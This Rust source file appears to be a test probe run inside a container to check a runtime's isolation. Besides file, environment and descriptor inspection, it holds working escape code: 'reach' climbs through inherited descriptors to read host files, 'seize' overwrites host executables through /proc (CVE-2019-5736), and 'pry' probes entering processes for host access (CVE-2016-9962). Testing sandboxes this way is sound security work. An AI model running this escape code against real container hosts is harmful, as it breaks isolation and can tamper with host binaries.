//! The hostile program inside a container: performs the commands of its arguments, separated by `;`, and prints what it
//! saw, one line each.
#![forbid(unsafe_code)]

use std::collections::BTreeSet;
use std::ffi::OsStr;
use std::fs::{self, File, OpenOptions};
use std::io::{Read, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{FileTypeExt, MetadataExt, OpenOptionsExt};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

const O_NONBLOCK: i32 = 0o4000;

fn main() {
    let words: Vec<String> = std::env::args_os().skip(1).map(|word| word.to_string_lossy().into_owned()).collect();
    for command in words.split(|word| word == ";") {
        let mut out = std::io::stdout();
        let _ = writeln!(out, "{}", perform(command).replace('\n', "\\n"));
        let _ = out.flush();
    }
}

fn perform(command: &[String]) -> String {
    let words: Vec<&str> = command.iter().map(String::as_str).collect();
    match words[..] {
        ["say", text] => text.to_owned(),
        ["cat", path] => format!("cat {path}: {}", shown(read(path))),
        ["put", path, text] => format!("put {path}: {}", shown(put(path, text).map(|()| "done".into()))),
        ["ls", path] => format!("ls {path}: {}", shown(list(path))),
        ["kind", path] => format!("kind {path}: {}", shown(kind(path))),
        ["status", key] => format!("status {key}: {}", status(key)),
        ["cwd"] => format!("cwd {}", shown(std::env::current_dir().map(|dir| dir.display().to_string()))),
        ["env"] => {
            let all: Vec<String> =
                std::env::vars_os().map(|(key, value)| format!("{}={}", key.display(), value.display())).collect();
            format!("env {all:?}")
        }
        ["fds"] => format!("fds {:?}", descriptors()),
        ["reach", path] => reach(path),
        ["pry", seconds, path] => pry(seconds.parse().unwrap_or(1), path),
        ["seize", seconds, text] => seize(seconds.parse().unwrap_or(1), text),
        ["wait", milliseconds] => {
            std::thread::sleep(Duration::from_millis(milliseconds.parse().unwrap_or(0)));
            "waited".to_owned()
        }
        _ => format!("not a command: {words:?}"),
    }
}

fn shown(result: std::io::Result<String>) -> String {
    result.unwrap_or_else(|error| format!("error: {error}"))
}

fn read(path: impl AsRef<Path>) -> std::io::Result<String> {
    let mut bytes = vec![0; 512];
    let length = OpenOptions::new().read(true).custom_flags(O_NONBLOCK).open(path)?.read(&mut bytes)?;
    Ok(String::from_utf8_lossy(&bytes[..length]).into_owned())
}

/// Never creates: what is to be written must be there.
fn put(path: &str, text: &str) -> std::io::Result<()> {
    OpenOptions::new().write(true).custom_flags(O_NONBLOCK).open(path)?.write_all(text.as_bytes())
}

fn list(path: &str) -> std::io::Result<String> {
    let mut names: Vec<String> =
        fs::read_dir(path)?.flatten().map(|entry| entry.file_name().to_string_lossy().into_owned()).collect();
    names.sort();
    Ok(names.join(" "))
}

fn kind(path: &str) -> std::io::Result<String> {
    let meta = fs::symlink_metadata(path)?;
    let kind = meta.file_type();
    let name = match () {
        () if kind.is_symlink() => "link",
        () if kind.is_dir() => "directory",
        () if kind.is_file() => "file",
        () if kind.is_char_device() => "character device",
        () if kind.is_fifo() => "fifo",
        () => "other",
    };
    Ok(format!("{name} rdev={} size={}", meta.rdev(), meta.size()))
}

fn status(key: &str) -> String {
    let text = fs::read_to_string("/proc/self/status").unwrap_or_default();
    let prefix = format!("{key}:");
    text.lines().find_map(|line| line.strip_prefix(&prefix)).map_or("missing".into(), |value| value.trim().to_owned())
}

fn descriptors() -> Vec<String> {
    let Ok(entries) = fs::read_dir("/proc/self/fd") else { return vec!["no /proc/self/fd".into()] };
    let mut found: Vec<String> = entries
        .flatten()
        .filter_map(|entry| {
            let target = fs::read_link(entry.path()).ok()?;
            let own = target.starts_with("/proc") && target.ends_with("fd");
            (!own).then(|| format!("{} -> {}", entry.file_name().display(), target.display()))
        })
        .collect();
    found.sort();
    found
}

/// Looks for a file of the host, `path` from the host's root, by climbing from the working directory and from every
/// descriptor that was inherited.
fn reach(path: &str) -> String {
    let mut starts = vec![PathBuf::from(".")];
    starts.extend((0..32).map(|fd| PathBuf::from(format!("/proc/self/fd/{fd}"))));
    for start in starts {
        let mut from = start.clone();
        for _ in 0..24 {
            if let Ok(text) = read(from.join(path)) {
                return format!("REACHED the host from {}: {text}", start.display());
            }
            from.push("..");
        }
    }
    format!("cannot reach {path}")
}

/// Opens the executable of every process that appears and is not ours, and writes `text` over it as soon as nobody
/// executes it any more (CVE-2019-5736).
fn seize(seconds: u64, text: &str) -> String {
    let own = fs::read_link("/proc/self/exe").unwrap_or_default();
    let end = Instant::now() + Duration::from_secs(seconds);
    let mut held: Vec<(PathBuf, File)> = Vec::new();
    let (mut seen, mut refused, mut tries) = (0u32, 0u32, 0u32);
    let mut last: Option<String> = None;
    println!("watching");
    while Instant::now() < end {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let name = entry.file_name();
            if !is_pid(&name) {
                continue;
            }
            let exe = entry.path().join("exe");
            match fs::read_link(&exe) {
                Ok(target) if target == own => continue,
                Ok(target) if held.iter().any(|(path, _)| *path == target) => continue,
                Ok(target) => {
                    seen += 1;
                    match File::open(&exe) {
                        Ok(file) => held.push((target, file)),
                        Err(error) => last = Some(format!("open {}: {error}", target.display())),
                    }
                }
                Err(error) if error.raw_os_error() == Some(13) => refused += 1,
                Err(_) => {}
            }
        }
        for (path, file) in &held {
            tries += 1;
            let again = format!("/proc/self/fd/{}", file.as_raw_fd());
            let write =
                OpenOptions::new().write(true).open(&again).and_then(|mut file| file.write_all(text.as_bytes()));
            match write {
                Ok(()) => return format!("OVERWROTE {}", path.display()),
                Err(error) => last = Some(format!("write {}: {error}", path.display())),
            }
        }
    }
    format!("seized nothing: foreign executables {seen}, refused looks {refused}, writes tried {tries}, last {last:?}")
}

/// Looks into every process that appears and is not of our program yet, by all that /proc shows of it, for a file of the
/// host, `path` from the host's root (CVE-2016-9962). Ends early when there is a file /stop.
fn pry(seconds: u64, path: &str) -> String {
    const EACCES: i32 = 13;
    let own = fs::read_link("/proc/self/exe").unwrap_or_default();
    let own_pid = std::process::id().to_string();
    let end = Instant::now() + Duration::from_secs(seconds);
    let (mut open, mut closed, mut memories) = (0u32, 0u32, 0u32);
    let mut seen = BTreeSet::new();
    println!("watching");
    while Instant::now() < end && !Path::new("/stop").exists() {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let name = entry.file_name();
            if !is_pid(&name) || name == *own_pid {
                continue;
            }
            let process = entry.path();
            // An exec cannot be undone: what is closed afterwards too was closed when we looked behind the door.
            let is_closed =
                || matches!(fs::read_link(process.join("exe")), Err(error) if error.raw_os_error() == Some(EACCES));
            match fs::read_link(process.join("exe")) {
                Ok(exe) if exe == own => continue,
                Ok(_) => open += 1,
                Err(error) if error.raw_os_error() == Some(EACCES) => closed += 1,
                Err(_) => continue,
            }
            let mut doors: Vec<PathBuf> =
                fs::read_dir(process.join("fd")).into_iter().flatten().flatten().map(|fd| fd.path()).collect();
            doors.extend(["cwd", "root", "environ"].map(|door| process.join(door)));
            for door in doors {
                let name = door.strip_prefix(&process).unwrap_or(&door).display();
                if let Some(text) = behind(&door, path) {
                    return format!("REACHED the host through {name}: {text}");
                }
                if let Ok(target) = fs::read_link(&door) {
                    if is_closed() {
                        return format!("LOOKED at {name} of a closed process: {}", target.display());
                    }
                    let kind = target.display().to_string().replace(|letter: char| letter.is_ascii_digit(), "");
                    seen.insert(format!("{name} -> {kind}"));
                }
            }
            // Opening it takes the right to trace.
            if OpenOptions::new().read(true).write(true).open(process.join("mem")).is_ok() {
                if is_closed() {
                    return "LOOKED into the memory of a closed process".to_owned();
                }
                memories += 1;
            }
        }
    }
    format!("reached nothing: looks {open}, refused looks {closed}, memories {memories}, seen {seen:?}")
}

/// What of the host is behind a link or file of /proc.
fn behind(door: &Path, path: &str) -> Option<String> {
    if door.is_file() {
        return read(door).ok().filter(|text| text.contains("SECRET"));
    }
    // At the top `..` stays where it is. A /proc of the host would have the host's init.
    let up = "../".repeat(24);
    [format!("{up}{path}"), format!("1/root/{path}")].into_iter().find_map(|way| read(door.join(way)).ok())
}

fn is_pid(name: &OsStr) -> bool {
    name.as_encoded_bytes().iter().all(u8::is_ascii_digit)
}
